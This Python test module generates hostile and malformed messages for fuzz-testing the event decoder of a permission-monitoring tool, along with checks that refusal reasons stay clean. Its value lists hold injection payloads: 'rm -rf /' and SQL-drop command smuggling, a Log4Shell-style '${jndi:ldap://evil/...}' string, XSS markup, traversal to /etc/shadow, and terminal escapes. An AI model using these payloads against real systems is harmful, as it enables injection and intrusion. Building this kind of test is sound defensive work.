"""Hostile and malformed bus messages for the decoder fuzz tests (unit and integration).

Every message made here is invalid where it is sent on purpose: what permwatch must do with each is refuse it
with a one-line reason and, on the bus, dead-letter it. Each :class:`Fuzzed` message carries the input topic it
goes to and ``expect``, text its reason must contain, written down here from the contract (docs/events.md), so a
test checks that the reason names what is wrong rather than that there is some reason. ``HOSTILE`` lists what the
messages smuggle in (markup, terminal escapes, traversal, injections) that no reason may repeat.
"""

from __future__ import annotations

import base64
import copy
import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from permwatch.transport.topics import RECORD_MAX_BYTES

MAX_MESSAGE_BYTES = 1_000_000  # permwatch.events.MAX_MESSAGE_BYTES, restated: the contract, not the code
OVERSIZED_MAX_BYTES = RECORD_MAX_BYTES - 1024
"""Up to what size oversized messages go: permwatch creates its input topics with ``max.message.bytes`` =
RECORD_MAX_BYTES (1,065,536) for a whole record batch, whose overhead and key take a few dozen bytes here. A
message between MAX_MESSAGE_BYTES and this size is what the bus delivers and the processor's limit refuses.
(The broker's own default, 1,048,588, and kafka-python's default ``max_request_size``, 1,048,576, are lower:
a producer of such messages needs ``max_request_size`` raised.)"""

T = "2026-11-23T08:00:00Z"
_ENVELOPE = {"schema_version": 1, "event_id": "e1", "observed_at": T, "source": "fuzz"}

VALID_FS: dict[str, Any] = {
    **_ENVELOPE,
    "type": "fs.permission",
    "kind": "changed",
    "path": "/srv/share/x",
    "old_path": None,
    "object_type": "directory",
    "owner": {"id": 0, "name": "root"},
    "group": {"id": 0, "name": "root"},
    "mode": 493,
    "acl": [{"tag": "user_obj", "perms": 7}, {"tag": "group_obj", "perms": 5}, {"tag": "other", "perms": 5}],
    "default_acl": [],
}
_LABEL = {"name": "fuzz", "severity": "high", "allowed_groups": ["fuzzgrupp"], "allowed_users": []}
VALID: dict[str, dict[str, Any]] = {
    "fs.permission": VALID_FS,
    "fs.batch": {**_ENVELOPE, "type": "fs.batch", "unit": "/srv/share/x", "events": [VALID_FS]},
    "fs.scan_completed": {
        **_ENVELOPE,
        "type": "fs.scan_completed",
        "root": "/srv/share",
        "reason": "baseline",
        "paths_seen": 10,
        "paths_changed": 2,
        "seconds": 0.5,
    },
    "directory.user": {
        **_ENVELOPE,
        "type": "directory.user",
        "name": "fuzzer",
        "dn": None,
        "uid": 39001,
        "primary_gid": 39001,
        "disabled": False,
        "deleted": False,
        "change": "snapshot",
        "actor": None,
        "changed_at": None,
    },
    "directory.group": {
        **_ENVELOPE,
        "type": "directory.group",
        "name": "fuzzgrupp",
        "dn": None,
        "gid": 39001,
        "member_users": ["fuzzer"],
        "member_groups": [],
        "deleted": False,
        "change": "members",
        "added": ["fuzzer"],
        "removed": [],
        "actor": None,
        "changed_at": T,
    },
    "label.assigned": {**_ENVELOPE, "type": "label.assigned", "path": "/srv/share/x", "label": _LABEL},
    "exposure": {
        **_ENVELOPE,
        "type": "exposure",
        "exposure_id": "exp-fuzz",
        "sequence": 0,
        "status": "opened",
        "folder": "/srv/share/x",
        "label": _LABEL,
        "people": 1,
        "groups": ["alla"],
        "users": ["bo"],
        "grants": [{"entry": "other::", "group": None, "chain": [], "user": None, "people": 1}],
        "paths_affected": 1,
        "sample_paths": ["/srv/share/x"],
        "cause_event_ids": ["e0"],
        "actor": None,
        "opened_at": T,
        "closed_at": None,
        "duration_seconds": None,
        "detected_at": T,
    },
}
"""One valid message per type (tests check that each decodes)."""

TOPIC_OF = {
    "fs.permission": "fs",
    "fs.batch": "fs",
    "fs.scan_completed": "fs",
    "directory.user": "directory",
    "directory.group": "directory",
    "label.assigned": "labels",
    "exposure": "exposures",
}
INPUT_TOPICS = ("fs", "directory", "labels")
TYPES_ON = {topic: [t for t, on in TOPIC_OF.items() if on == topic] for topic in INPUT_TOPICS}

HOSTILE = (
    "<script",
    "<img",
    "\x1b[",
    "\u202e",
    "../../",
    "drop table",
    "rm -rf",
    "${jndi:",
    "%n%n",
    "\x00",
)
"""Fragments the messages carry that no reason may echo (compared case-insensitively)."""
NEVER_IN_A_REASON = frozenset("`|~{}")
"""Characters no reason permwatch writes has (fuzz inputs do): a reason holding one echoes its input."""


KEY_CHARS = 16 * 1024
"""How much of a key a dead letter keeps."""


def assert_clean_reason(reason: str) -> None:
    """One printable line that repeats nothing hostile from the message."""
    assert reason and reason.isprintable() and len(reason) < 500, repr(reason)
    assert not any(fragment.lower() in reason.lower() for fragment in HOSTILE), reason
    assert not NEVER_IN_A_REASON & set(reason), reason


def assert_letter_for(letter: dict[str, Any], message: Fuzzed) -> None:
    """``letter`` (a dead letter as JSON) names what is wrong with ``message`` and keeps it whole, and its key up
    to KEY_CHARS."""
    reason = letter["reason"]
    assert_clean_reason(reason)
    assert all(part in reason for part in message.expect), (message.kind, message.expect, reason)
    assert letter["topic"] == message.topic and letter["type"] == "deadletter", letter["topic"]
    assert base64.b64decode(letter["value_b64"], validate=True) == (message.value or b""), (message.kind, reason)
    key = None if message.key is None else message.key.decode("utf-8", "replace")
    assert letter["key"] == (key if key is None else key[:KEY_CHARS])
    assert (f"[key cut to its first {KEY_CHARS} of" in reason) == (key is not None and len(key) > KEY_CHARS)


_NOT_STRINGS: list[object] = [None, -1, 2**70, 1e308, float("nan"), [], {}, [[[[[]]]]], {"$gt": ""}, True]
_NOT_STRICT_INTS: list[object] = [None, "5", True, 1.5, [], {}, float("nan")]
_NOT_BOOLS: list[object] = [None, 0, 1, "false", "yes", [], {}]
_BAD_PATHS: list[object] = [
    *_NOT_STRINGS,
    "",
    "x" * 70_000,
    "../../etc/shadow",
    "relative/path",
    "/a/../b",
    "/a/./b",
    "/a//b",
    "/a/",
    "/\u0000",
]
_BAD_TIMES: list[object] = [-1, 2**70, 1e308, "", "2026-13-45T99:99:99Z", "yesterday", "2026-11-23", "12345", [], True]
_BAD_IDENTITIES: list[object] = [
    -1,
    "",
    "root",
    [],
    {"id": "0"},
    {"id": True},
    {"name": "root"},
    {"id": 0, "name": "root", "\x1b[2J\x1b[31mowned": 1},
]
_BAD_ACLS: list[object] = [
    None,
    -1,
    "",
    "user::rwx",
    {},
    [None],
    [{"tag": "user_obj"}],
    [[]],
    [{"tag": "bogus", "perms": 7}],
    [{"tag": "user", "qualifier": "1001", "perms": 7}],
    [{"tag": "mask", "perms": 8}],
    [{"tag": "other", "perms": "rwx"}],
    [{"tag": "other", "perms": 5, "<script>alert(1)</script>": True}],
]
_BAD_NAME_LISTS: list[object] = ["bo", 7, {}, [1], [None], [[]], [{"$gt": ""}]]
_BAD_LABELS: list[object] = [
    "ledning",
    7,
    [],
    {},
    {"name": ""},
    {"name": "x" * 200},
    {"name": "x", "severity": "apocalyptic"},
    {"name": "x", "allowed_groups": "alla"},
    {"name": "x", "allowed_users": [7]},
    {"name": "x", "<img src=x onerror=alert(1)>": 1},
]

INVALID_VALUES: dict[str, dict[str, list[object]]] = {
    "fs.permission": {
        "event_id": [None, -1, "", "../../etc/shadow", "a b", "x" * 200, "\u0000", "<script>", [], True],
        "observed_at": [None, *_BAD_TIMES],
        "source": [None, 7, "s" * 300, []],
        "kind": [*_NOT_STRINGS, "", "chmod", "<script>alert(1)</script>"],
        "path": _BAD_PATHS,
        "old_path": [7, [], "relative", "/a/../b", "x" * 5000],
        "object_type": [*_NOT_STRINGS, "", "socket-ish"],
        "owner": _BAD_IDENTITIES,
        "group": _BAD_IDENTITIES,
        "mode": [-1, 2**70, 1e308, float("nan"), "", "493", True, 4.5, [], {}, 0o10000],
        "acl": _BAD_ACLS,
        "default_acl": _BAD_ACLS,
    },
    "fs.batch": {
        "unit": [None, 7, "", "relative", "/a/../b", "/a/"],
        "events": [None, [], "x", {}, [None], [7], [{**VALID_FS, "mode": -1}], [{**VALID_FS, "type": "exposure"}]],
        "source": ["s" * 300, 7],
    },
    "fs.scan_completed": {
        "root": [None, 7, "", "relative", "/a//b"],
        "reason": [None, 7, "", "rescan", "overflow; rm -rf /"],
        "paths_seen": [-1, *_NOT_STRICT_INTS],
        "paths_changed": [-1, *_NOT_STRICT_INTS],
        "seconds": [-1, -1e308, "fast", None, [], {}],
    },
    "directory.user": {
        "name": [None, 7, "", "x" * 300, []],
        "dn": [7, "x" * 2000, []],
        "uid": _NOT_STRICT_INTS[1:],
        "primary_gid": _NOT_STRICT_INTS[1:],
        "disabled": _NOT_BOOLS,
        "deleted": _NOT_BOOLS,
        "change": [None, 7, "x" * 100],
        "actor": [7, "x" * 2000, []],
        "changed_at": _BAD_TIMES,
    },
    "directory.group": {
        "name": [None, 7, "", "x" * 300, []],
        "gid": _NOT_STRICT_INTS[1:],
        "member_users": _BAD_NAME_LISTS,
        "member_groups": _BAD_NAME_LISTS,
        "added": _BAD_NAME_LISTS,
        "removed": _BAD_NAME_LISTS,
        "deleted": _NOT_BOOLS,
        "change": [None, 7, "x" * 100],
        "changed_at": _BAD_TIMES,
    },
    "label.assigned": {
        "path": _BAD_PATHS,
        "label": _BAD_LABELS,
        "origin": [None, 7, "", "manual", "xattr; drop table labels"],
        "event_id": ["${jndi:ldap://evil/a}", "%n%n%n"],
    },
}
"""Per type, per field: values each of which that field refuses."""

REQUIRED = {
    "fs.permission": {"kind": "invalid fs.permission.kind", "path": "invalid fs.permission.path"},
    "fs.batch": {"unit": "invalid fs.batch.unit", "events": "invalid fs.batch.events"},
    "fs.scan_completed": {"root": "invalid fs.scan_completed.root", "paths_seen": "fs.scan_completed.paths_seen"},
    "directory.user": {"name": "invalid directory.user.name"},
    "directory.group": {"name": "invalid directory.group.name"},
    "label.assigned": {"path": "invalid label.assigned.path", "label": "invalid label.assigned.label"},
}
"""Per type: a field without a default, and what leaving it out reads."""

_BAD_VERSIONS: list[object] = [0, 2, 3, 99, -1, 2**64, "1", "2", None, [1], {"v": 1}, 1.5]
_BAD_TYPES: list[object] = [
    "",
    "fs.permissions",
    "FS.PERMISSION",
    "fs.permission\u0000",
    "exposure.opened",
    "deadletter",
    "drop table events",
    "<script>alert(1)</script>",
    "\x1b]0;pwned\x07",
    7,
    None,
    [],
    {"$ne": None},
]
_EXTRA_NAMES = [
    "x1",
    "comment",
    "schema",
    "<script>alert(1)</script>",
    "\x1b[2J\x1b[H",
    "../../etc/passwd",
    "'; drop table fs; --",
    "${jndi:ldap://evil/x}",
    "\u202etxt.exe",
    "%n%n%s",
    "",
    " ",
    "a" * 500,
]
_EXTRA_VALUES: list[object] = [None, -1, 2**70, 1e308, "", "x" * 70_000, "../../etc/shadow", [], {}, {"$gt": ""}, True]


@dataclass(frozen=True)
class Fuzzed:
    """One hostile record: where it goes, its key and value, and what the reason for refusing it must say."""

    topic: str
    key: bytes | None
    value: bytes | None
    expect: tuple[str, ...]
    """All of these are in the reason."""
    kind: str


Doc = dict[str, Any]
_Made = tuple[bytes | None, tuple[str, ...]]


def _dumps(doc: object) -> bytes:
    # NaN and lone surrogates are what hostile producers send; json.dumps writes both when asked
    return json.dumps(doc, allow_nan=True).encode("utf-8", "surrogatepass")


def _field(rng: random.Random, type_: str, doc: Doc) -> _Made:
    field = rng.choice(sorted(INVALID_VALUES[type_]))
    doc[field] = copy.deepcopy(rng.choice(INVALID_VALUES[type_][field]))
    return _dumps(doc), (f"invalid {type_}.{field}",)


def _missing(rng: random.Random, type_: str, doc: Doc) -> _Made:
    if type_ == "fs.permission" and rng.random() < 0.5:
        del doc[rng.choice(["mode", "owner", "group"])]
        return _dumps(doc), (f"invalid {type_}: Value error, a changed event needs mode, owner and group",)
    field, expect = rng.choice(sorted(REQUIRED[type_].items()))
    del doc[field]
    return _dumps(doc), (expect,)


def _inconsistent(rng: random.Random, type_: str, doc: Doc) -> _Made:
    if type_ == "fs.batch":
        doc["events"] = [VALID_FS, {**VALID_FS, "path": "/srv/share/elsewhere"}]
        return _dumps(doc), ("invalid fs.batch:", "a batch carries a path outside its unit")
    if type_ == "fs.permission":
        doc["kind"] = "moved"
        return _dumps(doc), ("invalid fs.permission:", "a moved event needs old_path")
    return _field(rng, type_, doc)


def _extra(rng: random.Random, type_: str, doc: Doc) -> _Made:
    doc[rng.choice(_EXTRA_NAMES) + rng.choice(["", str(rng.randrange(1000))])] = rng.choice(_EXTRA_VALUES)
    return _dumps(doc), (f"invalid {type_}.", "Extra inputs are not permitted")


def _version(rng: random.Random, type_: str, doc: Doc) -> _Made:
    doc["schema_version"] = rng.choice(_BAD_VERSIONS)
    if rng.random() < 0.3:  # what a version 2 producer might write: new fields, changed ones
        doc["trace_id"] = "abc"
        doc["observed_at"] = 1794814933512
    return _dumps(doc), ("unsupported schema_version (this build reads version 1)",)


def _type(rng: random.Random, type_: str, doc: Doc) -> _Made:
    if rng.random() < 0.2:
        del doc["type"]
    else:
        doc["type"] = rng.choice(_BAD_TYPES)
    return _dumps(doc), ("unknown or missing event type",)


def _not_json(rng: random.Random, type_: str, doc: Doc) -> _Made:
    raw = _dumps(doc)
    choice = rng.randrange(7)
    if choice == 0:  # random bytes
        return rng.randbytes(rng.randrange(1, 300)), ("invalid <message>:",)
    if choice == 1:  # truncated
        return raw[: rng.randrange(1, len(raw) - 1)], ("invalid <message>: Invalid JSON",)
    if choice == 2:  # deep nesting, past the parser's recursion limit or not
        depth = rng.randrange(50, 5000)
        return b"[" * depth + b"]" * depth, ("invalid <message>:",)
    if choice == 3:  # not an object
        return _dumps(rng.choice([[doc], "fs.permission", 7, None, True, []])), (
            "invalid <message>: Input should be an object",
        )
    if choice == 4:  # a byte-order mark, a NUL, or invalid UTF-8 inside a string
        junk = rng.choice(
            [b"\xef\xbb\xbf" + raw, raw.replace(b'"fuzz"', b'"fu\x00zz"'), raw.replace(b"fuzz", b"\xff\xfe")]
        )
        return junk, ("invalid <message>: Invalid JSON",)
    if choice == 5:  # a lone surrogate as an escape
        return raw.replace(b'"fuzz"', b'"\\udc80"'), ("invalid <message>: Invalid JSON",)
    return raw + b" " + raw, ("invalid <message>: Invalid JSON",)  # two documents


def _many_errors(rng: random.Random, type_: str, doc: Doc) -> _Made:
    # a cheap message that costs the validator thousands of errors
    doc = copy.deepcopy(VALID_FS)
    doc["acl"] = [{"tag": "bogus", "perms": 9}] * rng.randrange(1000, 20_000)
    return _dumps(doc), ("invalid fs.permission.acl.0.", "more)")


def _tombstone(rng: random.Random, type_: str, doc: Doc) -> _Made:
    return None, ("empty message (tombstone)",)


def _misplaced(rng: random.Random, topic: str) -> _Made:
    """A valid event, on a topic it does not belong on."""
    type_ = rng.choice([t for t, on in TOPIC_OF.items() if on != topic])
    return _dumps(VALID[type_]), (f"a {type_} event does not belong on topic {topic}",)


def _oversized(rng: random.Random, type_: str, doc: Doc) -> _Made:
    size = rng.randrange(MAX_MESSAGE_BYTES + 1, OVERSIZED_MAX_BYTES - 1000)
    if type_ == "fs.batch" and rng.random() < 0.5:
        # valid in every other way (500 events with long old paths): refused for its size alone
        def batch(pad: int) -> bytes:
            event = {**VALID_FS, "old_path": "/srv/share/x/" + "o" * pad}
            return _dumps({**doc, "events": [event] * 500})

        grows = len(batch(1)) - len(batch(0))
        raw = batch(-(-(size - len(batch(0))) // grows))
    else:
        doc["source"] = ""
        doc["source"] = "s" * (size - len(_dumps(doc)))
        raw = _dumps(doc)
    return raw, (f"message too large: {len(raw)} bytes > {MAX_MESSAGE_BYTES}",)


def _large(rng: random.Random, type_: str, doc: Doc) -> _Made:
    """Just under the limit, so it is parsed (and its dead letter is bigger than the limit in base64)."""
    doc["source"] = "s" * rng.randrange(300_000, MAX_MESSAGE_BYTES - 2000)
    return _dumps(doc), (f"invalid {type_}.source: String should have at most 256 characters",)


_Mutation = Callable[[random.Random, str, Doc], _Made]
_MUTATIONS: list[tuple[int, str, _Mutation]] = [
    (30, "field", _field),
    (6, "missing", _missing),
    (4, "inconsistent", _inconsistent),
    (12, "extra", _extra),
    (9, "version", _version),
    (9, "type", _type),
    (14, "json", _not_json),
    (1, "many_errors", _many_errors),
    (2, "tombstone", _tombstone),
    (1, "oversized", _oversized),
    (1, "large", _large),
]
_MISPLACED_WEIGHT = 11
_KEYS: list[bytes | None] = [
    None,
    b"",
    b"\xff\xfe\x00",
    b"\x1b[2J\x1b[31m",
    "/srv/share/\u202etxt".encode(),
    b"k" * 40_000,
    b"\xff" * 400_000,  # three bytes each in the letter, twice over
    b"\x01" * 300_000,  # six bytes each in the letter's JSON
]


def _key(rng: random.Random, index: int, value: bytes | None) -> bytes | None:
    if rng.random() < 0.05 and (value is None or len(value) < 500_000):  # a long key and a long value don't fit
        key = rng.choice(_KEYS)
        if key is not None or value is not None:  # kafka-python sends no record with neither
            return key
    return f"/fuzz/{index % 97}".encode()


def _fuzzed(rng: random.Random) -> Iterator[Fuzzed]:
    weights = [weight for weight, _, _ in _MUTATIONS] + [_MISPLACED_WEIGHT]
    index = 0
    while True:
        topic = rng.choice(INPUT_TOPICS)
        pick = rng.choices(range(len(weights)), weights)[0]
        if pick == len(_MUTATIONS):
            value, expect = _misplaced(rng, topic)
            kind = "misplaced"
        else:
            _, kind, mutation = _MUTATIONS[pick]
            type_ = "fs.permission" if kind == "many_errors" else rng.choice(TYPES_ON[topic])
            value, expect = mutation(rng, type_, copy.deepcopy(VALID[type_]))
        yield Fuzzed(topic, _key(rng, index, value), value, expect, kind)
        index += 1


def fuzzed_messages(count: int, *, seed: int = 20261123) -> list[Fuzzed]:
    """``count`` hostile records over the three input topics, the same for the same seed."""
    generator = _fuzzed(random.Random(seed))
    return [next(generator) for _ in range(count)]
